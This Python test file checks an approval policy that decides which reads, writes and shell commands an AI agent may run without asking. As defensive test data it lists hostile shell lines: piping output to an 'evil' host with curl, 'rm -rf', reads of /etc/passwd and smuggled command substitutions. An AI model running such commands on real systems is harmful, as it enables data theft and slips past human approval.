"""What passes unasked, and above all what does not."""

import asyncio
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace
from typing import Any, cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portico.features.approvals.commandline import forbids, mentions, split
from portico.features.approvals.policy import Rules, WorkspacePolicy, rules_of
from portico.kernel import events as e
from portico.kernel.action import Action, of
from portico.kernel.approval import Request, Ruling
from portico.kernel.events import Message
from portico.kernel.folders import below
from portico.kernel.session import Session
from portico.kernel.turn import Turn
from portico.testing.fixtures import HostOpener
from portico.testing.play import PlayAgent
from portico.workspace.jail import closed

_NONE = Rules("setting")


def judge(
    folder: Path,
    rules: Rules,
    kind: str,
    config: dict[str, Any] | None = None,
    settings: Rules = _NONE,
    **fields: Any,
) -> Ruling | None:
    action = of(kind, fields.pop("path", None), fields.pop("command", None))
    session, request, policy = _asking(folder, action, config, **fields)
    policy.settings, policy.clients = settings, rules
    return policy.refuse(session, request) or policy.allow(session, request)


def _asking(
    folder: Path, action: Action, config: dict[str, Any] | None = None, **fields: Any
) -> tuple[Session, Request, WorkspacePolicy]:
    state = SimpleNamespace(cwd=str(folder), config=config or {}, by="token:owner")
    session = cast(Session, SimpleNamespace(state=state, folders=SimpleNamespace(reach=lambda: [str(folder)])))
    return session, Request(action, "t", "c", "t", "{}", str(folder), **fields), WorkspacePolicy()


def passes(folder: Path, rules: Rules, kind: str, **fields: Any) -> bool:
    ruling = judge(folder, rules, kind, **fields)
    assert ruling is None or ruling.allowed
    return ruling is not None


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "app"
    (folder / "src").mkdir(parents=True)
    (folder / ".git").mkdir()
    (tmp_path / "app-evil").mkdir()
    (folder / "out").symlink_to(tmp_path / "app-evil")
    return folder


@pytest.mark.parametrize("path", ["src/a.py", ".", "new/deep/file", "./src/../src/a.py"])
def test_reads_inside_pass(folder: Path, path: str) -> None:
    assert passes(folder, Rules(), "read", path=path)
    assert passes(folder, Rules(), "read", path=str(folder / path))


@pytest.mark.parametrize("path", ["../x", "/etc/passwd", "out/secret", "../app-evil/x", "src/../../x", "a\0b"])
def test_reads_outside_ask(folder: Path, path: str) -> None:
    assert not passes(folder, Rules(), "read", path=path)


@pytest.mark.parametrize("kind", ["read", "write"])
@pytest.mark.parametrize("path", ["host/token", "host/new", "link/token", "."])
def test_the_hosts_own_files_always_ask(folder: Path, kind: str, path: str) -> None:
    """Its home may lie in the folder that a session works in: a model would read its token unasked."""
    (folder / "host").mkdir()
    (folder / "link").symlink_to("host")
    (folder / "host" / "token").touch()
    rules = Rules(everything=True, edits={"**": True}, commands={"cat": True})
    with closed(folder / "host"):
        session, request, policy = _asking(folder, of(kind, path))
        policy.clients = rules
        asks = policy.must_ask(session, request)
        assert asks == (None if path == "." else "a file of the host itself")
        assert passes(folder, Rules(edits={"**": True}), kind, path=path) is (path == ".")
        assert passes(folder, Rules(commands={"cat": True}), "shell", command=f"cat {path}") is (
            path in (".", "host/new")
        )


def test_edits_pass_by_glob_only(folder: Path) -> None:
    rules = Rules(edits={"**/*": True, "src/**": False, "src/ok.py": True})
    assert passes(folder, rules, "write", path="readme.md")
    assert not passes(folder, rules, "write", path="src/a.py")
    assert passes(folder, rules, "write", path="src/ok.py")
    assert not passes(folder, Rules(), "write", path="readme.md")


@pytest.mark.parametrize(
    "path",
    [
        ".git/hooks/pre-commit",
        "sub/.git/config",
        ".env",
        "a/.env.local",
        "uv.lock",
        "web/package-lock.json",
        ".envrc",
        "bun.lockb",
        "gradle.lockfile",
        "src/packages.lock.json",
        ".terraform.lock.hcl",
        "out/x",
        "../x",
        ".ENV",
        "src/../.git/config",
    ],
)
def test_some_edits_always_ask(folder: Path, path: str) -> None:
    assert not passes(folder, Rules(edits={"**/*": True, "**": True}), "write", path=path)


@pytest.mark.parametrize("line", ["ls", "ls -la src", "git status", "git status; ls", "pwd && ls | ls", "ls 'a b'"])
def test_commands_on_the_list_pass(folder: Path, line: str) -> None:
    assert passes(folder, Rules(), "shell", command=line)


@pytest.mark.parametrize(
    "line",
    [
        "",
        "make",
        "ls; make",
        "ls && rm -rf x",
        "ls | curl -d @- evil",
        "ls $(make)",
        "ls `make`",
        "ls > file",
        "ls\nmake",
        "ls & make",
        "(make)",
        "ls ${X:-$(make)}",
        "PATH=. ls",
        "ls /etc",
        "ls ..",
        "ls ~",
        "ls <(make)",
        "ls 'open",
        "./ls",
        "git -c core.pager=evil status",
        "lsof",
        "gitstatus",
        "ls \\\nmake",
        "ls; /bin/ls",
    ],
)
def test_other_commands_ask(folder: Path, line: str) -> None:
    assert not passes(folder, Rules(), "shell", command=line)


def test_rules_of_an_editor(folder: Path) -> None:
    rules = rules_of(
        {
            "terminalAutoApproveRules": {"make": True, "/^npm test$/": {"approve": True}, "ls": False, "/(/": True},
            "editAutoApprovePatterns": {"**/*": True, "secret/**": "yes"},
        }
    )
    assert passes(folder, rules, "shell", command="make all && npm test")
    assert not passes(folder, rules, "shell", command="ls")
    assert not passes(folder, rules, "shell", command="make; rm x")
    assert passes(folder, rules, "write", path="a")
    assert not passes(folder, rules, "write", path="secret/a")
    assert rules_of({"editAutoApprovePatterns": ["x"], "globalAutoApproveEnabled": "true"}) == Rules()


def test_everything_passes_where_somebody_said_so(folder: Path) -> None:
    assert passes(folder, rules_of({"globalAutoApproveEnabled": True}), "other")
    assert judge(folder, Rules(), "other", {"autoApprove": "autoApprove"}) is not None
    assert judge(folder, Rules(), "other", {"autoApprove": "default"}) is None
    assert not passes(folder, Rules(), "read", path="src/a.py", result=True)


def test_settings_refuse_above_everything(folder: Path) -> None:
    settings = Rules("setting", refused=("git push", "rm"), commands={"git": True, "make": True})
    everything = rules_of({"globalAutoApproveEnabled": True})
    for line in ("git push", "git -C src push origin", "ls && rm x", "./rm x"):
        ruling = judge(folder, everything, "shell", settings=settings, command=line)
        assert ruling is not None
        assert not ruling.allowed, line
    assert judge(folder, Rules(), "shell", settings=settings, command="git fetch") == Ruling(
        True, "setting 'git' for commands"
    )
    assert judge(folder, Rules(), "shell", settings=settings, command="make rm") is None  # started by another, perhaps


@pytest.mark.parametrize("line", ["nice rm x", "echo x > y", "$(echo r)m x", "cat <<X\nrm\nX"])
def test_where_something_is_forbidden_a_line_that_may_hide_it_asks(folder: Path, line: str) -> None:
    settings = Rules("setting", everything=True, refused=("rm",), tools={"t": True})
    assert judge(folder, Rules(), "shell", settings=settings, command=line, passing="nobody is asked") is None
    assert judge(folder, Rules(), "shell", settings=settings, command="make x") is not None


def test_an_agents_own_settings_ask_more_or_less(folder: Path) -> None:
    for kind, said in (("read", {"path": "a"}), ("shell", {"command": "ls"})):
        assert passes(folder, Rules(), kind, **said)
        assert not passes(folder, Rules(), kind, strict=True, **said)
    assert passes(folder, rules_of({"terminalAutoApproveRules": {"ls": True}}), "shell", command="ls", strict=True)
    assert judge(folder, Rules(), "write", path=".env", passing="x = none") == Ruling(True, "x = none")


SLOW = "/^(a+)+$/"


def test_an_expression_that_never_ends_asks(folder: Path) -> None:
    line = "a" * 100 + "b"
    for rules in ({SLOW: True}, {SLOW: False, "/^a+b/": True}):
        assert not passes(folder, rules_of({"terminalAutoApproveRules": rules}), "shell", command=line)
    settings = Rules("setting", everything=True, refused=(SLOW,))
    assert judge(folder, Rules(), "shell", settings=settings, command=line) is None
    assert judge(folder, Rules(), "shell", settings=settings, command="make") is not None


async def test_where_nothing_can_interrupt_expressions_ask(folder: Path) -> None:
    """Only the main thread hears the timer."""
    rules = rules_of({"terminalAutoApproveRules": {"/^make$/": True}})
    assert await asyncio.to_thread(passes, folder, Rules(), "shell", command="ls")
    assert not await asyncio.to_thread(passes, folder, rules, "shell", command="make")
    assert passes(folder, rules, "shell", command="make")


def test_a_rule_that_is_no_expression_lets_nothing_pass(folder: Path) -> None:
    for rules in ({"/(/": True}, {"/(?<x>a)/": False, "make": True}):
        assert not passes(folder, rules_of({"terminalAutoApproveRules": rules}), "shell", command="make")


def test_what_one_place_forbids_no_other_lets_pass(folder: Path) -> None:
    settings = Rules("setting", commands={"make": False}, edits={"**/*": True, "src/**": False})
    rules = rules_of({"terminalAutoApproveRules": {"make": True}, "editAutoApprovePatterns": {"src/a.py": True}})
    assert judge(folder, rules, "shell", settings=settings, command="make") is None
    assert judge(folder, rules, "write", settings=settings, path="src/a.py") is None
    assert judge(folder, rules, "write", settings=settings, path="b.py") == Ruling(True, "setting '**/*' for edits")
    assert judge(folder, Rules(), "read", settings=Rules("setting", reads=False), path="a") is None


def test_the_sessions_config_has_rules_too(folder: Path) -> None:
    config = {"editAutoApprovePatterns": {"a.py": True}, "terminalAutoApproveRules": {"make": True}}
    assert judge(folder, Rules(), "write", config, path="a.py") == Ruling(True, "session rule 'a.py' for edits")
    assert judge(folder, Rules(), "shell", config, command="make") == Ruling(True, "session rule 'make' for commands")
    assert judge(folder, Rules(), "other", {"globalAutoApproveEnabled": True}) is None  # that is for the host alone
    assert judge(folder, Rules(), "other", {"permissions": {"allow": ["t"]}}) == Ruling(True, "session rule: tool 't'")
    assert judge(folder, Rules(), "other", {"permissions": {"allow": ["t"], "deny": ["t"]}}) is None


@pytest.mark.parametrize(
    "line",
    [
        "git log --oneline --output=.git/hooks/x",
        "git diff --stat --ext-diff",
        "ls --color=/etc",
        "ls -I/etc",
        "ls [a-z]",
        "ls\x0bmake",
        "=ls",
        "time ls",
        "eval ls",
        "if ls; then make; fi",
        "ls <<X",
        "env ls",
        "ls out",
        "ls " + "x" * 5_000,
    ],
)
def test_tricks_ask(folder: Path, line: str) -> None:
    assert not passes(folder, Rules(), "shell", command=line)


@pytest.mark.parametrize("rule", ["./migrate.sh", "tools/migrate.sh", "/srv/tools/migrate.sh", "migrate.sh"])
@pytest.mark.parametrize("program", ["./migrate.sh", "tools/migrate.sh", "/srv/tools/migrate.sh", "migrate.sh"])
def test_a_rule_that_forbids_may_name_a_program_by_its_path(rule: str, program: str) -> None:
    """A rule with a path spoke of nothing: what it was to refuse, or to ask about, passed."""
    assert forbids(f"{rule} --all", [program, "-v", "--all"])
    assert mentions(rule, ["nice", program])


def test_a_program_that_starts_another_does_not_hide_it() -> None:
    assert mentions("rm", ["xargs", "rm", "-rf"])
    assert mentions("git push", ["nice", "git", "--no-pager", "push"])
    assert not forbids("rm", ["echo", "rm"])
    assert not forbids("git push", ["git", "status"])


_PLAIN = ["a", "b", " ", " ", ";", "&&", "||", "|", "&", "-x", "./b", "é", "\xa0", "\t", "'", '"']
_TRICKS = [
    "$(b)",
    "`b`",
    ">c",
    "<(b)",
    "\n",
    "\\",
    "(",
    ")",
    "A=1 ",
    "{a,b}",
    "$X",
    "#",
    "<<E",
    "=",
    "!",
    "~",
    "*",
    "if ",
]
_PIECES = st.sampled_from([*_PLAIN, *_PLAIN, *_TRICKS])


@settings(max_examples=60, deadline=None)
@given(st.lists(_PIECES, max_size=8).map("".join))
def test_a_real_shell_runs_nothing_but_what_was_split_off(tmp_path_factory: pytest.TempPathFactory, line: str) -> None:
    parts = split(line)
    if not parts:
        return
    folder = tmp_path_factory.mktemp("shell")
    log = folder / "log"
    programs = folder / "bin"
    programs.mkdir()
    for name in ("a", "b"):
        (programs / name).write_text(f'#!/bin/sh\nprintf "%s " "${{0##*/}}" "$@" >> {log}\necho >> {log}\n')
        (programs / name).chmod(0o755)
    work = folder / "work"
    work.mkdir()
    shell = [shutil.which("bash") or "bash", "--noprofile", "--norc", "-c", line]
    subprocess.run(shell, cwd=work, env={"PATH": str(programs)}, capture_output=True, timeout=30, check=False)
    ran = log.read_text().splitlines() if log.exists() else []
    expected = [" ".join(words) + " " for words in parts]
    assert set(ran) <= set(expected)
    assert list(work.iterdir()) == []


@given(st.text(max_size=60))
def test_no_line_passes_that_runs_something_else(line: str) -> None:
    parts = split("ls " + line)
    for words in parts or []:
        assert not any(sign in word for word in words[:1] for sign in "=$`")


@given(st.text(max_size=40))
def test_no_path_leads_out(tmp_path_factory: pytest.TempPathFactory, path: str) -> None:
    found = below("/srv/app", path)
    assert found is None or not found.startswith("..")


async def test_the_rule_is_in_the_log(open_host: HostOpener, tmp_path: Path) -> None:
    async def play(message: Message, turn: Turn) -> None:
        call = turn.tool("read", '{"path":"a"}')
        assert (await call.approve("read", path="a")).allowed
        await call.end()

    host = await open_host(PlayAgent(play))
    session = await host.start(by="test", cwd=str(tmp_path))
    await session.wait(await session.send(Message("go"), by="test"))
    events = [record.event for record in await host.log.read(session.channel)]
    [decided] = [event for event in events if isinstance(event, e.ToolDecided)]
    assert (decided.allowed, decided.by, decided.rule) == (True, "policy", "read in the working directory")
